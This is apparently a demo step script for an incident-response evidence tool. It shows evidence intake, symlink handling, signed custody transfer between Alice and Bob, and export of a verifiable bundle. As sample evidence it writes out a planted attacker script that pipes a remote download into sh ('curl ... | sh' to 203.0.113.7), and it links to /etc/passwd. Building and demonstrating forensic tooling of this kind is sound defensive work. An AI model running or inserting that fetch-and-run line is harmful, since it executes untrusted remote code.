# 30-evidence.sh - demo step: evidence locker, custody, and a bundle verified elsewhere.
say "Keep the attacker's script as evidence (copied, hashed, read-only; where, who, when recorded)"
mkdir -p "$DEMO/suspect/tmp"
printf '#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n' >"$DEMO/suspect/tmp/.x.sh"
run evidence add 1 "$DEMO/suspect/tmp/.x.sh" --why "dropped in /tmp by the intruder" --how "copied from the bastion host"
ln -sf /etc/passwd "$DEMO/suspect/tmp/link"
say "A symbolic link is never followed silently: refused, or recorded as the link itself"
run evidence add 1 "$DEMO/suspect/tmp/link" || true
run evidence add 1 --links "$DEMO/suspect/tmp/link"
say "Hand the script to Bob: Alice offers, Bob accepts; each step is signed by its author"
run evidence transfer E1 --to bob@example.org --why "malware analysis"
IRK_KEY="$DEMO/bob.key" run evidence accept E1
run evidence show E1
run evidence verify
say "Export the incident as one signed bundle and verify it on a machine with no casebook"
run export 1 -o "$DEMO/INC-1.irk"
mkdir -p "$DEMO/elsewhere"
(cd "$DEMO/elsewhere" && run verify "$DEMO/INC-1.irk")
